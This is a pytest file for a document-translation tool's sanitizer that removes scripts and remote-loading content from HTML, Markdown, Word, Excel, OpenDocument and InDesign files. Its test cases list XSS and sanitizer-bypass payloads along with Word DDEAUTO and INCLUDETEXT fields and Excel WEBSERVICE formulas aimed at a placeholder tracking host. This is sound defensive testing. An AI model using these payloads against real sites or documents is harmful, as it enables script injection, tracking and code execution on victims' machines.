"""`strip_active` takes out of every format what runs, or is loaded from elsewhere, and no words."""

from __future__ import annotations

import zipfile
from datetime import date
from pathlib import Path

import pytest

from langaccess import formats
from langaccess.core.errors import InputError
from langaccess.core.model import Target
from langaccess.core.tags import Tag
from tests.formats.test_active_content import copy, put_last
from tests.support import FIXTURES

ES = Tag("es")
AWAY = "http://track.example/"


def written(source: Path, folder: Path, *, form: str = "") -> formats.Written:
    """Return the translation of a file into itself, without its active content."""
    document = formats.read(source, accept_revisions=True)
    targets = {unit.id: Target(unit.text, unit.spans) for unit in document.units if not unit.twin}
    name = formats.format_of(source).target_name(source, ES)
    label = None if form else formats.label_for(ES, date(2026, 11, 29))
    return formats.write(
        document, targets, folder / name, tag=ES, label=label, form=form, strip_active=True
    )


def texts(path: Path) -> list[str]:
    read = formats.format_of(path).read(path, accept_revisions=True)
    return [unit.text for unit in read.units]


def active(path: Path) -> list[str]:
    read = formats.format_of(path).read(path, accept_revisions=True)
    return [note.code for note in read.notes if formats.is_active(note.code)]


def removed(made: formats.Written) -> int:
    return sum(note.count for note in made.notes if note.code == "active.removed")


def clean(text: str, name: str) -> tuple[str, int]:
    """Return a text of this name without its active content, and how much there was."""
    path = Path(name)
    made, count = formats.format_of(path).strip_active(text.encode(), path)
    return made.decode(), count


def count_of(text: str, name: str = "a.html") -> int:
    return formats.format_of(Path(name)).count_active(text.encode())


def raw(path: Path) -> bytes:
    with zipfile.ZipFile(path) as file:
        return b"".join(file.read(name) for name in file.namelist())


@pytest.mark.parametrize(
    ("body", "left"),
    [
        ('<img src="http://t.example/p.png" alt="A car">', '<img  alt="A car">'),
        ('<img src="a.png" src="http://t.example/b" alt="x">', '<img src="a.png"  alt="x">'),
        ("<p>a<script>alert(1)</script>b</p>", "<p>ab</p>"),
        ("{{<script>alert(1)</script>}}", "{{}}"),
        ('<a title="{{ " onmouseover="f()" x=" }}">', '<a title="{{ "  x=" }}">'),
        ('<img ="><script>f()</script><p title=">', '<img ="><p title=">'),
        ("<!-- --!><script>f()</script> -->", "<!-- --!> -->"),
        ("<![CDATA[ > <script>f()</script>]]>", "<![CDATA[ > ]]>"),
        ("<svg><style><img onerror=f()></style></svg>", "<svg><style><img ></style></svg>"),
        (
            '<noscript><p title="</noscript><img src=x onerror=f()>"></noscript>',
            '<noscript><p title="</noscript><img src=x >"></noscript>',
        ),
        ('<meta http-equiv=refresh content="0;http://t.example">', "<meta http-equiv=refresh >"),
        ('<link rel="next stylesheet" href="//t.example/a">', '<link rel="next stylesheet" >'),
        (r'<style>@import "\68ttp://t.example";b{background:u\72l(//e/x)}</style>',
         "<style>b{background:none}</style>"),
        ('<p style="background:url(&quot;http://e/a&quot;);color:red">',
         '<p style="background:none;color:red">'),
        ('<iframe srcdoc="<script>f()</script>"></iframe>', "<iframe ></iframe>"),
        ('<svg><set attributeName="href" to="javascript:f()"/></svg>',
         '<svg><set attributeName="href" /></svg>'),
        ('<p>words</p><img src="http://t.example/', "<p>words</p>"),
        ('<a href=" java&#10;script:f()">x</a>', "<a >x</a>"),
        ('<iframe src="search-ms:query=x"></iframe>', "<iframe ></iframe>"),
        ('<a href="https://t.example/" ping="http://t.example">x</a><p>1 < 2</p>', ""),
    ],
)  # fmt: skip
def test_what_a_browser_runs_or_loads_is_taken_out_of_a_page(body: str, left: str) -> None:
    made, count = clean(body, "a.html")
    assert made == (left or body)
    assert (count > 0) == bool(left)
    assert not count_of(made)


@pytest.mark.parametrize(
    ("body", "left"),
    [
        ('![A [b] c](http://e/x "t")', '![A [b] c](<> "t")'),
        ("![q][r]\n\n[r]: http://e/p.png", "![q](<>)\n\n[r]: http://e/p.png"),
        ("![r]\n\n[r]: http://e/p.png", "![r](<>)\n\n[r]: http://e/p.png"),
        ("[x](java&#115;cript:f())", "[x](<>))"),
        ("<javascript:f()>", "javascript:f()"),
        ("[![a](//e/p)](https://e/)", "[![a](<>)](https://e/)"),
        ("[r] ![a](a.png)\n\n[r]: https://e/", ""),
    ],
)
def test_pictures_and_links_of_markdown_lose_their_address_only(body: str, left: str) -> None:
    assert clean(body, "a.md")[0] == (left or body)


@pytest.mark.slow
def test_long_repetitions_are_read_once() -> None:
    """Each would take minutes in a reader that looks at the rest for each of them."""
    for piece in ("<noscript>", "<svg><style>", "<style>", "[", "![a](", "<img ", "<!--", '<a x="'):
        text = piece * (200_000 // len(piece)) + "\n\n[a]: http://e"
        assert count_of(text, "a.md") < 2


def field(code: str, result: str) -> bytes:
    def mark(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    return (
        f"<w:p>{mark('begin')}<w:r><w:instrText>{code}</w:instrText></w:r>{mark('separate')}"
        f"<w:r><w:t>{result}</w:t></w:r>{mark('end')}</w:p>"
    ).encode()


COMPUTED = (
    b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE '
    b"</w:instrText></w:r>" + field("QUOTE 104 116", "hidden")[len("<w:p>") : -len("</w:p>")]
    + b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Computed</w:t></w:r>'
    b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)  # fmt: skip


def test_fields_of_word_leave_what_they_show(tmp_path: Path) -> None:
    inserted = b"".join(
        (
            field(f'INCLUDETEXT "{AWAY}a.docx"', "Included words"),
            field("DDEAUTO x y", "Started words"),
            field(f'LINK Excel.Sheet "{AWAY}a.xlsx"', "Linked words"),
            field("PAGE", "7"),
            COMPUTED,
            f'<w:p><w:fldSimple w:instr="IMPORT &quot;{AWAY}&quot;"><w:r><w:t>Imported'
            "</w:t></w:r></w:fldSimple></w:p></w:body>".encode(),
        )
    )
    source = copy(tmp_path, FIXTURES / "docx/runs.docx", "word/document.xml", put_last(inserted))
    made = written(source, tmp_path)
    assert removed(made) == 5
    assert active(made.path) == []
    data = raw(made.path)
    for words in (b"Included", b"Started", b"Linked", b"Computed", b"Imported", b"PAGE"):
        assert words in data
    for gone in (b"INCLUDE", b"DDEAUTO", b"LINK", b"IMPORT", b"QUOTE", b"hidden", b"track.example"):
        assert gone not in data


def test_relationships_that_load_something_are_taken_out(tmp_path: Path) -> None:
    source = FIXTURES / "docx" / "pictures.docx"
    rels = "word/_rels/document.xml.rels"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
    added = f'<Relationship Id="away" Type="{kind}" Target="{AWAY}1.png" TargetMode="External"/>'
    end = b"</Relationships>"
    linked = copy(tmp_path, source, rels, lambda d: d.replace(end, added.encode() + end))
    again = tmp_path / "again"
    again.mkdir()
    path = copy(
        again,
        linked,
        "word/document.xml",
        lambda d: d.replace(b"r:embed=", b'r:link="away" r:embed=', 1),
    )
    made = written(path, tmp_path)
    assert removed(made) == 1
    assert b"away" not in raw(made.path)
    assert b"track.example" not in raw(made.path)
    assert texts(made.path)[-1] == texts(path)[-1]


def with_cells(folder: Path, cells: str) -> Path:
    """Return a copy of a workbook with more cells in its first sheet."""
    row = f'<row r="90">{cells}</row></sheetData>'.encode()
    return copy(
        folder,
        FIXTURES / "xlsx/cells.xlsx",
        "xl/worksheets/sheet1.xml",
        lambda data: data.replace(b"</sheetData>", row, 1),
    )


def test_formulas_of_excel_leave_the_value_of_the_cell(tmp_path: Path) -> None:
    path = with_cells(
        tmp_path,
        f'<c r="A90" t="str"><f>_xlfn.WEBSERVICE("{AWAY}"&amp;A1)</f><v>Words of a service</v></c>',
    )
    made = written(path, tmp_path)
    assert removed(made) == 1
    assert active(made.path) == []
    assert b"WEBSERVICE" not in raw(made.path)
    assert b"Words of a service" in raw(made.path)


def test_a_query_keeps_what_its_schema_requires_and_asks_nothing(tmp_path: Path) -> None:
    """ECMA-376-1, CT_Connection and CT_DbPr: id, refreshedVersion and connection are required."""
    part = "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"
    path = copy(
        tmp_path,
        FIXTURES / "xlsx/cells.xlsx",
        "[Content_Types].xml",
        lambda data: data.replace(
            b"</Types>",
            f'<Override PartName="/xl/connections.xml" ContentType="{part}"/></Types>'.encode(),
        ),
    )
    with zipfile.ZipFile(path, "a") as file:
        file.writestr(
            "xl/connections.xml",
            '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            '<connection id="1" refreshedVersion="6" refreshOnLoad="1" interval="5">'
            f'<dbPr connection="URL={AWAY}" command="all"/></connection></connections>',
        )
    assert active(path) == ["xlsx.reaches_out"]
    made = written(path, tmp_path)
    assert removed(made) == 1
    assert active(made.path) == []
    with zipfile.ZipFile(made.path) as file:
        query = file.read("xl/connections.xml")
    assert b'<connection id="1" refreshedVersion="6"><dbPr connection="" command=""/>' in query


def test_links_of_formulas_are_reported_and_removed(tmp_path: Path) -> None:
    path = with_cells(
        tmp_path,
        f'<c r="A90" t="str"><f>HYPERLINK("{AWAY}a","x")</f><v>Words of a link</v></c>'
        '<c r="B90" t="str"><f>hyperlink("#Sheet1!A1")</f><v>Up</v></c>'
        '<c r="C90" t="str"><f>IF(A1,HYPERLINK("file:"&amp;A1))</f><v>Computed</v></c>',
    )
    assert active(path) == ["xlsx.leads_out"]
    made = written(path, tmp_path)
    assert removed(made) == 2
    assert active(made.path) == []
    assert b"track.example" not in raw(made.path)
    for kept in (b"Words of a link", b"hyperlink(", b"Computed"):
        assert kept in raw(made.path)


def test_opendocument_and_indesign_lose_addresses_and_handlers(tmp_path: Path) -> None:
    link = f'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{AWAY}seal.png"'
    inserted = (
        f"<text:p>See <draw:frame><draw:image {link}/><svg:title>A car</svg:title>"
        f"</draw:frame>.</text:p>"
        f'<text:section text:name="s"><text:section-source {link}/><text:p>Inside.</text:p>'
        "</text:section></office:text>"
    ).encode()
    odt = copy(
        tmp_path, FIXTURES / "odt/brochure.odt", "content.xml",
        lambda data: data.replace(b"</office:text>", inserted, 1),
    )  # fmt: skip
    made = written(odt, tmp_path)
    assert removed(made) == 2
    assert active(made.path) == []
    assert b"track.example" not in raw(made.path)
    assert {"A car", "Inside."} <= set(texts(made.path))

    idml = FIXTURES / "idml" / "brochure.idml"
    with zipfile.ZipFile(idml) as file:
        spread = next(name for name in file.namelist() if name.startswith("Spreads/"))
    placed = f'<Link Self="l9" LinkResourceURI="{AWAY}seal.png"/></Spread>'.encode()
    path = copy(tmp_path, idml, spread, lambda data: data.replace(b"</Spread>", placed, 1))
    made = written(path, tmp_path)
    assert removed(made) == 1
    assert b'LinkResourceURI="file:seal.png"' in raw(made.path)


@pytest.mark.parametrize(
    ("address", "name"),
    [
        ("file:/Users/ana/seal.png", "seal.png"),
        ("file:///Volumes/Work/the%20seal.png", "the%20seal.png"),
        ("file:C:/Users/ana/seal.png", "seal.png"),
        ("file:%2F%2Fhost/share/seal.png", "seal.png"),
        ("\\\\host\\share\\seal.png", "seal.png"),
        ("file:seal.png", ""),
    ],
)
@pytest.mark.parametrize("part", ["Spreads/Spread_u1.xml", "Resources/Styles.xml", "XML/Back.xml"])
def test_links_of_indesign_to_a_path_are_reported_and_removed(
    tmp_path: Path, address: str, name: str, part: str
) -> None:
    link = f'<Link Self="l9" LinkResourceURI="{address}"/>'
    path = tmp_path / "in.idml"
    with (
        zipfile.ZipFile(FIXTURES / "idml" / "brochure.idml") as old,
        zipfile.ZipFile(path, "w") as new,
    ):
        for info in old.infolist():
            data = old.read(info)
            if info.filename == part:
                end = data.rindex(b"</")
                data = data[:end] + link.encode() + data[end:]
            new.writestr(info, data)
        if part not in old.namelist():
            new.writestr(part, f"<Story>{link}</Story>")
    assert active(path) == ["idml.reaches_out"] * bool(name)
    made = written(path, tmp_path)
    assert removed(made) == bool(name)
    assert active(made.path) == []
    assert f'LinkResourceURI="file:{name or "seal.png"}"'.encode() in raw(made.path)


SEEDS = sorted(
    path
    for form in ("docx", "odt", "xlsx", "pptx", "idml", "html", "markdown")
    for path in (FIXTURES / form).glob("*.*")
    if path.suffix != ".yaml" and ".ru." not in path.name
)


@pytest.mark.slow
@pytest.mark.usefixtures("read_here")
@pytest.mark.parametrize("path", SEEDS, ids=lambda p: p.name)
def test_no_word_of_a_fixture_is_lost(path: Path, tmp_path: Path) -> None:
    try:
        formats.read(path, accept_revisions=True)
    except InputError:
        with pytest.raises(InputError):
            written(path, tmp_path)
        return
    made = written(path, tmp_path)
    assert active(made.path) == []


@pytest.mark.parametrize(
    "page",
    [
        '<p>Call us.</p><p title="</body><img src=http://t.example/x>">',
        '<p>Call us.</p><img src="http://t.example/x.png" class=',
        '<title>A</title><p title="</head><img src=http://t.example/x>">Call us.</p>',
        '<body title="{{ "><p>Call us.</p><p title=" }}"><img alt="',
    ],
)
def test_a_form_number_makes_no_markup_of_text(page: str, tmp_path: Path) -> None:
    source = tmp_path / "a.html"
    source.write_text(page, encoding="utf-8")
    document = formats.read(source)
    targets = {unit.id: Target(unit.text, unit.spans) for unit in document.units}
    made = formats.write(document, targets, tmp_path / "a.es.html", tag=ES, form="SPD-1 es v1")
    text = made.path.read_text(encoding="utf-8")
    assert "SPD-1" in text
    assert count_of(text) == count_of(page)
    draft = formats.write(
        document,
        targets,
        tmp_path / "b.es.html",
        tag=ES,
        label=formats.label_for(ES, date(2026, 11, 29)),
    )
    assert count_of(draft.path.read_text(encoding="utf-8")) == count_of(page)


@pytest.mark.parametrize("name", ["a.html", "a.md"])
@pytest.mark.parametrize(
    "words",
    ["<script>f()</script>", "![x](http://t.example/p.png)", '<img src="http://t.example/p">',
     "[Call](javascript:f())", "<javascript:f()>", '"><img src=http://t.example/x>'],
)  # fmt: skip
def test_the_words_of_a_translation_are_never_markup(name: str, words: str, tmp_path: Path) -> None:
    source = tmp_path / name
    picture = '<img src="a.png" alt="A car" title="A car">'
    body = f'<p>Call us.</p>\n\n<p>{picture}</p>\n\nAsk.\n\n![A](a.png "Car")\n'
    source.write_text(body, encoding="utf-8")
    document = formats.read(source)
    targets = {unit.id: Target(words) for unit in document.units}
    made = formats.write(document, targets, tmp_path / f"made.{name}", tag=ES)
    assert not count_of(made.path.read_text(encoding="utf-8"), name)
